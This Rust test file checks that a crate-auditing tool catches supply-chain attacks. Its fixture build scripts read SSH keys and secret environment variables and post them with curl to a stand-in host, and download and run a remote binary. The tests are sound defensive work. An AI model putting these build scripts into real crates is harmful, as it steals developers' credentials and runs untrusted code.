//! What arrives is read, not only its metadata: real crates.io attack patterns replayed offline
//! (vendored crates or a registry on 127.0.0.1, a sparse index with `pubtime`s, no advisory),
//! each past the age at which `fresh-release` stops seeing it.
//!
//! 1. A trusted crate's patch release whose own build script connects out, reads `~/.ssh` and
//!    every secret-looking variable, and runs `curl` (the onering pattern, June 2026).
//! 2. A new crate whose build script downloads a binary and runs it (evm-units, 2025).
//! 3. A release that adds a 2 MB `include_bytes!` blob and an ELF `.so` (the xz pattern).
//! 4. A `.crate` whose build script is stored with a type flag the old reader skipped.
//! 5. A pull request that bumps a crate and forges its line in `trustcheck.lock`.

mod common;

use std::time::Duration;

use common::registry::{Registry, cargo};
use common::server::{Reply, Server};
use common::*;

const DAY: i64 = 86_400;
const LIMIT: Duration = Duration::from_secs(120);

/// A sparse index on 127.0.0.1 listing `versions` (crate, version, days since published).
fn index(versions: &[(&str, &str, i64)]) -> Server {
    let now = cargo_trustcheck::support::date::now();
    let versions: Vec<(String, String, i64)> = versions
        .iter()
        .map(|(name, version, days)| ((*name).to_owned(), (*version).to_owned(), now - days * DAY))
        .collect();
    Server::start(move |request| {
        let path = request.path.trim_start_matches('/');
        let listed: Vec<(&str, bool, i64)> = versions
            .iter()
            .filter(|(name, ..)| index_path(name) == path)
            .map(|(_, version, published)| (version.as_str(), false, *published))
            .collect();
        match listed.first() {
            Some(_) => {
                let name = versions
                    .iter()
                    .find(|(name, ..)| index_path(name) == path)
                    .map(|(name, ..)| name.clone())
                    .unwrap_or_default();
                Reply::new(200, index_file_published(&name, &listed))
            }
            None => Reply::new(404, "not found"),
        }
    })
}

/// A vendored workspace, its index, and its cache: the tool run as a user runs it.
struct Workspace {
    fixture: Fixture,
    index: Server,
    cache: tempfile::TempDir,
    db: AdvisoryDb,
}

impl Workspace {
    fn new(tail: &str, crates: Vec<Crate>, versions: &[(&str, &str, i64)]) -> Workspace {
        let db = AdvisoryDb::new();
        db.add("RUSTSEC-2099-0001", "unrelated", &[], "", "Something else");
        Workspace {
            fixture: Fixture::new(vec![member("app", tail)], crates),
            index: index(versions),
            cache: tempfile::tempdir().unwrap(),
            db,
        }
    }

    fn run(&self, args: &[&str]) -> (i32, String, String) {
        let mut command = trustcheck(self.cache.path());
        command
            .args(args)
            .current_dir(self.fixture.root())
            .env("TRUSTCHECK_INDEX_URL", format!("{}/", self.index.url))
            .arg("--advisory-db")
            .arg(self.db.path());
        run_within(&mut command, LIMIT)
    }

    /// `check --format json`: its exit code and report.
    fn check(&self) -> (i32, serde_json::Value) {
        let (code, stdout, stderr) = self.run(&["check", "--format", "json"]);
        assert_ne!(code, 2, "{stderr}");
        (code, json(&stdout))
    }
}

/// The (kind, level, message) of each finding about `name`.
fn findings_of(report: &serde_json::Value, name: &str) -> Vec<(String, String, String)> {
    report["findings"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|finding| finding["crate"] == name)
        .map(|finding| {
            (
                finding["kind"].as_str().unwrap().to_owned(),
                finding["level"].as_str().unwrap_or_default().to_owned(),
                finding["message"].as_str().unwrap().to_owned(),
            )
        })
        .collect()
}

fn message<'a>(findings: &'a [(String, String, String)], kind: &str) -> &'a str {
    findings
        .iter()
        .find(|(found, ..)| found == kind)
        .map(|(.., message)| message.as_str())
        .unwrap_or_else(|| panic!("no {kind} finding in {findings:?}"))
}

/// The onering build script: it reads SSH keys and secrets and posts them with curl.
const ONERING_BUILD: &str = r#"use std::net::TcpStream;
use std::process::Command as C;
use std::io::Write;

fn main() {
    let home = std::env::var("HOME").unwrap_or_default();
    let keys = std::fs::read_to_string(format!("{home}/.ssh/id_rsa")).unwrap_or_default();
    let secrets: Vec<String> = std::env::vars()
        .filter(|(k, _)| k.contains("TOKEN") || k.contains("SECRET") || k.starts_with("AWS_"))
        .map(|(k, v)| format!("{k}={v}"))
        .collect();
    if let Ok(mut stream) = TcpStream::connect("203.0.113.7:443") {
        let _ = stream.write_all(keys.as_bytes());
    }
    let _ = C::new("curl").arg("-d").arg(secrets.join("&")).arg("https://203.0.113.7/x").status();
}
"#;

/// A workspace that adopted cargo-trustcheck with onering 1.0.0 (committed), then moved to the
/// compromised 1.0.1, published five days ago, whose build script steals credentials.
fn onering_bumped() -> Workspace {
    let workspace = Workspace::new(
        "[dependencies]\nonering = \"1\"\n",
        vec![krate("onering", "1.0.0").lib("pub fn ring() {}\n")],
        &[("onering", "1.0.0", 400), ("onering", "1.0.1", 5)],
    );
    let (code, _, stderr) = workspace.run(&["init"]);
    assert_eq!(code, 0, "{stderr}");
    let baseline = workspace.fixture.read_file("trustcheck.lock");
    assert!(
        baseline.contains("{ version = \"1.0.0\", license = \"MIT\", build = [], code = {} }"),
        "the accepted version's code is recorded: {baseline}"
    );
    let (code, report) = workspace.check();
    assert_eq!(code, 0, "{report}");
    workspace.fixture.git(&["init", "--quiet"]);
    workspace.fixture.git(&["add", "."]);
    workspace
        .fixture
        .git(&["commit", "--quiet", "-m", "adopt cargo-trustcheck"]);

    // The compromised account publishes 1.0.1; five days later, nobody noticed.
    workspace.fixture.vendor(
        &krate("onering", "1.0.1")
            .lib("pub fn ring() {}\n")
            .build_script(ONERING_BUILD),
    );
    workspace.fixture.cargo_update("onering");
    workspace
}

#[test]
fn a_trusted_crates_patch_release_whose_build_script_steals_credentials_is_denied_after_min_age() {
    let workspace = onering_bumped();
    let (code, report) = workspace.check();
    assert_eq!(code, 1, "{report}");
    let findings = findings_of(&report, "onering");
    let gained = message(&findings, "build-capability");
    for evidence in [
        "opens network connections [network] (build.rs:12 std::net::TcpStream::connect",
        "[credentials] (build.rs:7",
        ".ssh",
        "[secret-env] (build.rs:8 std::env::vars",
        "[exfiltration]",
        "[download-execute]",
        "accepted 1.0.0",
    ] {
        assert!(gained.contains(evidence), "{evidence} in {gained}");
    }
    assert!(
        findings.iter().all(|(kind, ..)| kind != "fresh-release"),
        "five days old: past min-age {findings:?}"
    );
    // The JSON finding carries the evidence, one entry per fact, as the contract gives it.
    let finding = report["findings"]
        .as_array()
        .unwrap()
        .iter()
        .find(|finding| finding["kind"] == "build-capability")
        .unwrap();
    let evidence = finding["evidence"].as_array().unwrap();
    assert!(
        evidence.contains(&serde_json::json!({
            "role": "build-script",
            "file": "build.rs",
            "line": 12,
            "what": "std::net::TcpStream::connect",
            "capability": "network"
        })),
        "{evidence:?}"
    );

    // `explain` shows what the new version's build script can do, with its evidence.
    let (code, explained, stderr) = workspace.run(&["explain", "onering", "--offline"]);
    assert_eq!(code, 0, "{stderr}");
    assert!(
        explained.contains(
            "its build script opens network connections [network]: build.rs:12 std::net::TcpStream::connect"
        ),
        "{explained}"
    );

    // A reviewer who accepts it anyway records the decision, and the pull request's diff
    // counts it as trust granted, under a warning headline.
    let (code, _, stderr) = workspace.run(&["baseline", "--accept", "onering"]);
    assert_eq!(code, 0, "{stderr}");
    let baseline = workspace.fixture.read_file("trustcheck.lock");
    assert!(
        baseline.contains("{ version = \"1.0.1\", license = \"MIT\", build = [\"script\"], code = { build = [\"network\", \"execute\", \"credentials\", \"secret-env\", \"reads-all-env\", \"download-execute\", \"exfiltration\"] } }"),
        "{baseline}"
    );
    let (code, report) = workspace.check();
    assert_eq!(code, 0, "accepted: {report}");
    let (code, diff, stderr) = workspace.run(&["diff", "HEAD", "--format", "json"]);
    assert_eq!(code, 0, "{stderr}");
    let diff: serde_json::Value = serde_json::from_str(&diff).unwrap();
    let granted = diff["trust-granted"].to_string();
    assert!(
        granted.contains("1 version whose code gained capabilities, accepted"),
        "{granted}"
    );
    let (code, markdown, stderr) = workspace.run(&["diff", "HEAD", "--format", "markdown"]);
    assert_eq!(code, 0, "{stderr}");
    assert!(markdown.starts_with("⚠️"), "{markdown}");
}

#[test]
fn diff_did_not_count_a_bumped_version_whose_build_script_gained_capabilities_as_trust_granted() {
    let workspace = onering_bumped();
    let (code, report) = workspace.check();
    assert_eq!(code, 1, "{report}");

    // The reviewer's report of the bump, from cached facts: what check denies, diff introduces.
    let (code, markdown, stderr) = workspace.run(&["diff", "HEAD", "--format", "markdown"]);
    assert_eq!(code, 0, "{stderr}");
    assert!(markdown.starts_with("⚠️"), "{markdown}");
    assert!(
        markdown.contains("1 version whose code gained capabilities, not accepted"),
        "{markdown}"
    );
    let (code, stdout, stderr) = workspace.run(&["diff", "HEAD", "--format", "json"]);
    assert_eq!(code, 0, "{stderr}");
    let report = json(&stdout);
    let introduced: Vec<(&str, &str)> = report["findings"]["introduced"]
        .as_array()
        .unwrap()
        .iter()
        .map(|finding| {
            (
                finding["kind"].as_str().unwrap(),
                finding["crate"].as_str().unwrap_or_default(),
            )
        })
        .collect();
    assert!(
        introduced.contains(&("build-capability", "onering")),
        "{report}"
    );
    assert!(
        report["trust-granted"]
            .as_array()
            .unwrap()
            .iter()
            .any(|line| line == "1 version whose code gained capabilities, not accepted"),
        "{report}"
    );
    // Its code was read from the copy at hand: nothing about it is missing.
    assert!(
        report["findings"]["missing"]
            .as_array()
            .unwrap()
            .iter()
            .all(|line| !line.as_str().unwrap().contains("onering")),
        "{report}"
    );
}

#[test]
fn a_new_crate_whose_build_script_downloads_and_runs_a_binary_is_denied() {
    let fetcher_build = r#"
use std::process::Command;
fn main() {
    let out = std::env::var("OUT_DIR").unwrap();
    let path = format!("{out}/helper");
    let body = ureq::get("https://203.0.113.9/helper").call().unwrap().into_body().read_to_vec().unwrap();
    std::fs::write(&path, body).unwrap();
    Command::new(&path).status().unwrap();
}
"#;
    let workspace = Workspace::new(
        "[dependencies]\nclean = \"1\"\n",
        vec![krate("clean", "1.0.0")],
        &[
            ("clean", "1.0.0", 400),
            ("uniswap-utils", "0.2.0", 30),
            ("evm-units", "0.1.0", 30),
        ],
    );
    let (code, _, stderr) = workspace.run(&["init"]);
    assert_eq!(code, 0, "{stderr}");
    workspace
        .fixture
        .vendor(&krate("evm-units", "0.1.0").build_script(fetcher_build));
    workspace
        .fixture
        .vendor(&krate("uniswap-utils", "0.2.0").dep("evm-units = \"0.1\""));
    workspace.fixture.set_member(
        "app",
        "[dependencies]\nclean = \"1\"\nuniswap-utils = \"0.2\"\n",
    );
    let (code, report) = workspace.check();
    assert_eq!(code, 1, "{report}");
    let findings = findings_of(&report, "evm-units");
    let found = message(&findings, "build-capability");
    assert!(
        found.contains("evm-units 0.1.0 is new to the baseline")
            && found.contains("downloads and runs a program [download-execute]")
            && found.contains("build.rs:6 ureq::get")
            && found.contains("std::process::Command::new"),
        "{found}"
    );
    assert!(
        findings_of(&report, "uniswap-utils")
            .iter()
            .all(|(kind, ..)| kind != "build-capability"),
        "the clean-looking crate itself runs nothing"
    );
}

/// A minimal ELF header, as a shared object starts.
fn elf() -> Vec<u8> {
    let mut bytes = b"\x7fELF\x02\x01\x01\0".to_vec();
    bytes.resize(4096, 0);
    bytes
}

/// `size` bytes no compressor would shrink (xorshift).
fn noise(size: usize) -> Vec<u8> {
    let mut state: u64 = 0x9E37_79B9_7F4A_7C15;
    (0..size)
        .map(|_| {
            state ^= state << 13;
            state ^= state >> 7;
            state ^= state << 17;
            (state >> 24) as u8
        })
        .collect()
}

#[test]
fn a_release_that_adds_a_native_library_and_an_opaque_blob_is_denied() {
    let workspace = Workspace::new(
        "[dependencies]\nliblzma-ish = \"5\"\n",
        vec![krate("liblzma-ish", "5.6.0").lib("pub fn decode() {}\n")],
        &[("liblzma-ish", "5.6.0", 400), ("liblzma-ish", "5.6.1", 10)],
    );
    let (code, _, stderr) = workspace.run(&["init"]);
    assert_eq!(code, 0, "{stderr}");
    workspace.fixture.vendor(
        &krate("liblzma-ish", "5.6.1")
            .lib("static TEST: &[u8] = include_bytes!(\"../tests/files/bad-3-corrupt_lzma2.xz\");\npub fn decode() {}\n")
            .blob("tests/files/bad-3-corrupt_lzma2.xz", &noise(2 * 1024 * 1024))
            .blob("lib/liblzma.so.5", &elf()),
    );
    workspace.fixture.cargo_update("liblzma-ish");
    let (code, report) = workspace.check();
    assert_eq!(code, 1, "{report}");
    let findings = findings_of(&report, "liblzma-ish");
    let added = message(&findings, "binary-added");
    assert!(
        added.contains("lib/liblzma.so.5 (an ELF executable or library, 4096 bytes)")
            && added.contains(
                "tests/files/bad-3-corrupt_lzma2.xz (opaque high-entropy data, 2097152 bytes, pulled in by include_bytes!)"
            ),
        "{added}"
    );
    let finding = report["findings"]
        .as_array()
        .unwrap()
        .iter()
        .find(|finding| finding["kind"] == "binary-added")
        .unwrap();
    assert!(
        finding["evidence"]
            .as_array()
            .unwrap()
            .contains(&serde_json::json!({
                "role": "package",
                "file": "lib/liblzma.so.5",
                "line": null,
                "what": "an ELF executable or library, 4096 bytes",
                "capability": null
            })),
        "{finding}"
    );
}

#[test]
fn a_forged_baseline_line_for_a_bumped_version_is_a_finding_not_a_fact() {
    let workspace = Workspace::new(
        "[dependencies]\nbump = \"1\"\n",
        vec![krate("bump", "1.0.0")],
        &[("bump", "1.0.0", 400), ("bump", "1.0.1", 10)],
    );
    let (code, _, stderr) = workspace.run(&["init"]);
    assert_eq!(code, 0, "{stderr}");
    // The pull request: 1.0.1 adds a build script, and its line is added to the baseline by
    // hand, saying it has none.
    workspace
        .fixture
        .vendor(&krate("bump", "1.0.1").build_script("fn main() {}\n"));
    workspace.fixture.cargo_update("bump");
    let baseline = workspace.fixture.read_file("trustcheck.lock");
    let forged = baseline.replace(
        "    { version = \"1.0.0\", license = \"MIT\", build = [], code = {} },\n",
        "    { version = \"1.0.0\", license = \"MIT\", build = [], code = {} },\n    { version = \"1.0.1\", license = \"MIT\", build = [] },\n",
    );
    assert_ne!(forged, baseline, "{baseline}");
    workspace.fixture.write_file("trustcheck.lock", &forged);
    let (code, report) = workspace.check();
    assert_eq!(code, 1, "{report}");
    let findings = findings_of(&report, "bump");
    let mismatch = message(&findings, "baseline-mismatch");
    assert!(
        mismatch.contains("no build code recorded, a build script in the crate"),
        "{mismatch}"
    );
}

/// A `.crate` of `name` `version` with `manifest`, a clean `src/lib.rs`, and a build script
/// stored as a FIFO: the `tar` crate cargo 1.95 unpacks with writes it as a regular file.
fn build_script_as_fifo(name: &str, version: &str, manifest: &str) -> Vec<u8> {
    let encoder = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::fast());
    let mut builder = tar::Builder::new(encoder);
    let mut add = |path: &str, kind: tar::EntryType, bytes: &[u8]| {
        let mut header = tar::Header::new_gnu();
        header.set_entry_type(kind);
        header.set_size(bytes.len() as u64);
        header.set_mode(0o644);
        header.set_path(format!("{name}-{version}/{path}")).unwrap();
        header.set_cksum();
        builder.append(&header, bytes).unwrap();
    };
    add("Cargo.toml", tar::EntryType::Regular, manifest.as_bytes());
    add("src/lib.rs", tar::EntryType::Regular, b"");
    add(
        "build.rs",
        tar::EntryType::Fifo,
        b"fn main() { std::net::TcpStream::connect(\"203.0.113.7:80\").ok(); }\n",
    );
    builder.into_inner().unwrap().finish().unwrap()
}

#[test]
fn a_build_script_hidden_by_a_tar_type_flag_is_not_read_as_no_build_code() {
    let registry = Registry::start();
    registry.publish(&krate("clean", "1.0.0"));
    let dir = tempfile::tempdir().unwrap();
    let home = tempfile::tempdir().unwrap();
    registry.workspace(
        dir.path(),
        home.path(),
        &[member("app", "[dependencies]\nclean = \"1\"\n")],
    );
    let cache = tempfile::tempdir().unwrap();
    let tool = |args: &[&str]| {
        run_within(
            trustcheck(cache.path())
                .current_dir(dir.path())
                .env("TRUSTCHECK_GRAPH", "auto")
                .env("TRUSTCHECK_INDEX_URL", registry.index_url())
                .arg("--advisory-db")
                .arg(vendored_advisory_db())
                .args(args),
            LIMIT,
        )
    };
    let (code, _, stderr) = tool(&["init"]);
    assert_eq!(code, 0, "{stderr}");

    let sneaky = krate("sneaky", "1.0.0");
    let manifest = "[package]\nname = \"sneaky\"\nversion = \"1.0.0\"\nedition = \"2021\"\nlicense = \"MIT\"\n";
    registry.publish_archive(&sneaky, build_script_as_fifo("sneaky", "1.0.0", manifest));
    write(
        &dir.path().join("members/app/Cargo.toml"),
        "[package]\nname = \"app\"\nversion = \"0.1.0\"\nedition = \"2021\"\npublish = false\n\n[dependencies]\nclean = \"1\"\nsneaky = \"1\"\n",
    );
    cargo(dir.path(), home.path(), &["generate-lockfile"]);
    let (_, stdout, stderr) = tool(&["-v", "check", "--format", "json"]);
    let report = json(&stdout);
    let findings = findings_of(&report, "sneaky");
    assert!(
        findings.iter().any(|(kind, ..)| kind == "build-code"),
        "the build script cargo runs is seen: {findings:?}\n{stderr}"
    );
    assert!(
        stderr.contains("cargo metadata") && stderr.contains("sneaky"),
        "the lockfile-first reader gives way to cargo, saying why: {stderr}"
    );
    assert!(
        message(&findings, "build-capability").contains("[network]"),
        "the hidden build script's network access is read: {findings:?}"
    );

    // Run again at once, the caches now warm: the first run's answer was not cached as
    // "no build code".
    let (code, stdout, stderr) = tool(&["check", "--format", "json"]);
    assert_eq!(code, 1, "{stderr}");
    let warm = findings_of(&json(&stdout), "sneaky");
    assert_eq!(warm, findings, "cold and warm runs agree");
}
